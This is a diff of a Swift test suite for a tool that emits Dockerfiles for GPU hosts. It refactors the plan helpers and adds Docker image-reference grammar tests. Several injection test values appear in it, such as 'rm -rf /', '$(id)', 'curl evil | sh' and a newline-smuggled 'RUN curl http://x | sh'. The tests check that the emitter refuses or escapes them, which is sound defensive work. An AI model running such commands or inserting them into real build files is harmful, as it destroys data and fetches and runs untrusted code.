@@ -2,48 +2,22 @@ import Foundation
 import Testing
 
 @testable import GPUProbe
+@testable import TestSupport
 
 /// The Dockerfile instructions for the packaging guide's hosts, from plans the real matcher made
 /// over real `.run` archives.
 @Suite struct DockerfileEmitterTests {
-    static func plan(
-        _ report: HostReport,
-        installers versions: [String] = [],
-        torch: String? = nil
-    ) throws -> Plan {
-        let folder = FileManager.default.temporaryDirectory
-            .appendingPathComponent("gpuprobe-emit-\(UUID().uuidString)")
-        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
-        defer { try? FileManager.default.removeItem(at: folder) }
-        let installers = try versions.map { version in
-            try DriverInstallerReader.read(
-                path: MakeselfInstaller.build(version: version, in: folder)
-            )
-        }
-        return Matcher.plan(
-            report: report,
-            installers: installers,
-            catalog: .embedded,
-            request: TorchRequest(torch: torch),
-            inputs: PlanInputs(
-                host: "test",
-                drivers: "Drivers",
-                catalog: "embedded",
-                catalogUpdated: TorchCatalog.embedded.updated
-            )
-        )
-    }
-
-    static let installerPath = "Drivers/NVIDIA-Linux-x86_64-535.171.04.run"
-
     @Test func exactDriverAndTorchForTheGuidesNvidiaHost() throws {
         let report = try TestHosts.guideNvidia()
-        let plan = try Self.plan(report, installers: ["535.171.04", "550.135", "535.161.08"])
+        let plan = try TestPlans.emitterPlan(
+            report,
+            installers: ["535.171.04", "550.135", "535.161.08"]
+        )
         #expect(plan.driver.status == .exact)
         let emitted = try DockerfileEmitter.emit(
             plan: plan,
             report: report,
-            request: DockerfileRequest(base: "ubuntu:22.04", installerPath: Self.installerPath)
+            request: DockerfileRequest(base: "ubuntu:22.04", installerPath: TestPlans.installerPath)
         )
         let lines = emitted.text.split(separator: "\n", omittingEmptySubsequences: false)
         // 2.14.0+cu126 is the newest wheel for the A6000 (sm_86); CUDA 12.6 over the driver's
@@ -78,7 +52,7 @@ import Testing
 
     @Test func aLowerInstallerIsWrittenWithAWarningThatSaysWhatBreaks() throws {
         let report = try TestHosts.guideNvidia()
-        let plan = try Self.plan(report, installers: ["535.161.08", "550.135"])
+        let plan = try TestPlans.emitterPlan(report, installers: ["535.161.08", "550.135"])
         #expect(plan.driver.status == .mismatch)
         let emitted = try DockerfileEmitter.emit(
             plan: plan,
@@ -101,11 +75,11 @@ import Testing
     /// and reads back exactly the two lines; the guide's `echo -e` version would not.
     @Test func theBlacklistLineWritesExactlyTwoLinesUnderDash() throws {
         let report = try TestHosts.guideNvidia()
-        let plan = try Self.plan(report, installers: ["535.171.04"])
+        let plan = try TestPlans.emitterPlan(report, installers: ["535.171.04"])
         let text = try DockerfileEmitter.emit(
             plan: plan,
             report: report,
-            request: DockerfileRequest(installerPath: Self.installerPath)
+            request: DockerfileRequest(installerPath: TestPlans.installerPath)
         ).text
         let line = try #require(
             text.split(separator: "\n").first { $0.contains("&& printf") }
@@ -139,7 +113,7 @@ import Testing
     @Test(arguments: [false, true])
     func ascendLayersCopyTheHostFiles(vnpu: Bool) throws {
         let report = try TestHosts.guideAscend(vnpu: vnpu)
-        let plan = try Self.plan(report)
+        let plan = try TestPlans.emitterPlan(report)
         let emitted = try DockerfileEmitter.emit(
             plan: plan,
             report: report,
@@ -174,13 +148,13 @@ import Testing
 
     @Test func anIncompletePlanWritesNothing() throws {
         let report = try TestHosts.guideNvidia()
-        let plan = try Self.plan(report, installers: ["550.135"])
+        let plan = try TestPlans.emitterPlan(report, installers: ["550.135"])
         #expect(plan.driver.status == .none)
         #expect {
             try DockerfileEmitter.emit(
                 plan: plan,
                 report: report,
-                request: DockerfileRequest(installerPath: Self.installerPath)
+                request: DockerfileRequest(installerPath: TestPlans.installerPath)
             )
         } throws: { error in
             guard case .planIncomplete(let text) = error as? EmitError else { return false }
@@ -191,7 +165,7 @@ import Testing
     @Test func aHostWithNothingToInstallIsAnError() throws {
         var report = try TestHosts.guideNvidia()
         report.nvidia = nil
-        var plan = try Self.plan(report)
+        var plan = try TestPlans.emitterPlan(report)
         plan.torch = TorchPlan(status: .none)
         plan.complete = true
         #expect(throws: EmitError.self) {
@@ -210,7 +184,7 @@ import Testing
     @Test(arguments: hostilePaths)
     func hostileInstallerPathsAreRefused(path: String) throws {
         let report = try TestHosts.guideNvidia()
-        let plan = try Self.plan(report, installers: ["535.171.04"])
+        let plan = try TestPlans.emitterPlan(report, installers: ["535.171.04"])
         #expect {
             try DockerfileEmitter.emit(
                 plan: plan,
@@ -226,7 +200,7 @@ import Testing
 
     @Test func aPathWithSpacesIsCopiedInJSONForm() throws {
         let report = try TestHosts.guideNvidia()
-        let plan = try Self.plan(report, installers: ["535.171.04"])
+        let plan = try TestPlans.emitterPlan(report, installers: ["535.171.04"])
         let text = try DockerfileEmitter.emit(
             plan: plan,
             report: report,
@@ -244,12 +218,12 @@ import Testing
     @Test(arguments: ["ubuntu 22.04", "ubuntu:22.04\nRUN id", "$(id)", "-bad", "a\"b", ""])
     func hostileBaseImagesAreRefused(base: String) throws {
         let report = try TestHosts.guideNvidia()
-        let plan = try Self.plan(report, installers: ["535.171.04"])
+        let plan = try TestPlans.emitterPlan(report, installers: ["535.171.04"])
         #expect(throws: EmitError.self) {
             try DockerfileEmitter.emit(
                 plan: plan,
                 report: report,
-                request: DockerfileRequest(base: base, installerPath: Self.installerPath)
+                request: DockerfileRequest(base: base, installerPath: TestPlans.installerPath)
             )
         }
     }
@@ -257,13 +231,13 @@ import Testing
     @Test(arguments: ["535.171.04; rm -rf /", "not-a-version", "535.171.04\n", "$(id)"])
     func aChosenVersionThatIsNotAVersionIsRefused(version: String) throws {
         let report = try TestHosts.guideNvidia()
-        var plan = try Self.plan(report, installers: ["535.171.04"])
+        var plan = try TestPlans.emitterPlan(report, installers: ["535.171.04"])
         plan.driver.chosenVersion = version
         #expect {
             try DockerfileEmitter.emit(
                 plan: plan,
                 report: report,
-                request: DockerfileRequest(installerPath: Self.installerPath)
+                request: DockerfileRequest(installerPath: TestPlans.installerPath)
             )
         } throws: { error in
             guard case .unsafe(let what, _, _) = error as? EmitError else { return false }
@@ -273,7 +247,7 @@ import Testing
 
     @Test func hostileTorchValuesAreRefused() throws {
         let report = try TestHosts.guideNvidia()
-        let plan = try Self.plan(report, installers: ["535.171.04"])
+        let plan = try TestPlans.emitterPlan(report, installers: ["535.171.04"])
         let pick = try #require(plan.torch.pick)
         let changes: [(inout TorchPick) -> Void] = [
             { $0.torch = "2.7.1 && curl evil | sh" },
@@ -291,7 +265,7 @@ import Testing
                 try DockerfileEmitter.emit(
                     plan: bad,
                     report: report,
-                    request: DockerfileRequest(installerPath: Self.installerPath)
+                    request: DockerfileRequest(installerPath: TestPlans.installerPath)
                 )
             }
         }
@@ -302,13 +276,13 @@ import Testing
     @Test func hostTextCannotBreakOutOfItsComment() throws {
         var report = try TestHosts.guideNvidia()
         report.host.hostname = "evil\nRUN curl http://x | sh\n#"
-        let plan = try Self.plan(report, installers: ["535.171.04"])
+        let plan = try TestPlans.emitterPlan(report, installers: ["535.171.04"])
         var hostile = plan
         hostile.host.gpus[0].name = "GPU\r\nRUN id\u{2028}"
         let text = try DockerfileEmitter.emit(
             plan: hostile,
             report: report,
-            request: DockerfileRequest(installerPath: Self.installerPath)
+            request: DockerfileRequest(installerPath: TestPlans.installerPath)
         ).text
         #expect(!text.contains("\nRUN curl"))
         #expect(!text.contains("\nRUN id"))
@@ -345,15 +319,15 @@ import Testing
         case "exact", "lower":
             report = try TestHosts.guideNvidia()
             let version = host == "exact" ? "535.171.04" : "535.161.08"
-            plan = try Self.plan(report, installers: [version, "550.135"])
+            plan = try TestPlans.emitterPlan(report, installers: [version, "550.135"])
             let installer = "Drivers/NVIDIA-Linux-x86_64-\(version).run"
             request = DockerfileRequest(base: "ubuntu:22.04", installerPath: installer)
             context = [installer: .file(size: 325_000_000)]
         case "ascend-toolkit":
-            var capture = try AscendMatchTests.capture910B4()
+            var capture = try TestPlans.capture910B4()
             capture.host.architecture = "aarch64"
             report = capture
-            plan = AscendMatchTests.plan(report)
+            plan = TestPlans.ascendPlan(report)
             let packages = [
                 "Drivers/Ascend-cann-toolkit_8.1.RC1_linux-aarch64.run",
                 "Drivers/Ascend-cann-kernels-910b_8.1.RC1_linux-aarch64.run",
@@ -361,12 +335,12 @@ import Testing
             request = DockerfileRequest(base: "ubuntu:22.04", folderFiles: packages)
             for package in packages { context[package] = .file(size: 2_000_000_000) }
         case "ascend-official-image":
-            report = try AscendMatchTests.capture910B4()
-            plan = AscendMatchTests.plan(report)
+            report = try TestPlans.capture910B4()
+            plan = TestPlans.ascendPlan(report)
             request = DockerfileRequest()
         default:
             report = try TestHosts.guideAscend(vnpu: host == "ascend-vnpu")
-            plan = try Self.plan(report)
+            plan = try TestPlans.emitterPlan(report)
         }
         let emitted = try DockerfileEmitter.emit(plan: plan, report: report, request: request)
         let checked = try TestHosts.check(
@@ -383,5 +357,42 @@ import Testing
             "\(warnings)"
         )
         #expect(warnings.count <= emitted.warnings.count, "\(warnings) \(emitted.warnings)")
+    }
+
+    /// Docker's reference grammar (distribution/reference), as `docker build` reads `FROM`.
+    @Test(arguments: [
+        ("ubuntu", true),
+        ("ubuntu:22.04", true),
+        ("nvcr.io/nvidia/cuda:12.4.1-base-ubuntu22.04", true),
+        ("localhost:5000/team/my_image__x:Tag.1-a", true),
+        ("Registry.Example.com/x/y", true),
+        ("[::1]:5000/x:1", true),
+        ("a.b-c/d---e/f.g", true),
+        ("ubuntu@sha256:" + String(repeating: "a", count: 64), true),
+        ("ubuntu:22.04@sha256:" + String(repeating: "0", count: 64), true),
+        ("UBUNTU", false),
+        ("Ubuntu:22.04", false),
+        ("x:", false),
+        ("a//b", false),
+        ("/ubuntu", false),
+        ("ubuntu/", false),
+        ("-ubuntu", false),
+        ("ubuntu-", false),
+        ("a..b", false),
+        ("a._b", false),
+        ("ubuntu:-x", false),
+        ("ubuntu:" + String(repeating: "t", count: 129), false),
+        ("ubuntu@sha256:abc", false),
+        ("ubuntu@sha256:" + String(repeating: "A", count: 64), false),
+        ("ubuntu@md5:" + String(repeating: "a", count: 32), false),
+        ("host:port/x", false),
+        ("-host.io/x", false),
+        (String(repeating: "a", count: 256), false),
+        ("ubuntu:22.04;rm", false),
+        ("ubüntu", false),
+    ])
+    func imageReferencesFollowDockersGrammar(reference: String, valid: Bool) {
+        #expect(ImageReference.isValid(reference) == valid)
+        #expect(EmitValidation.isImageReference(reference) == valid)
     }
 }
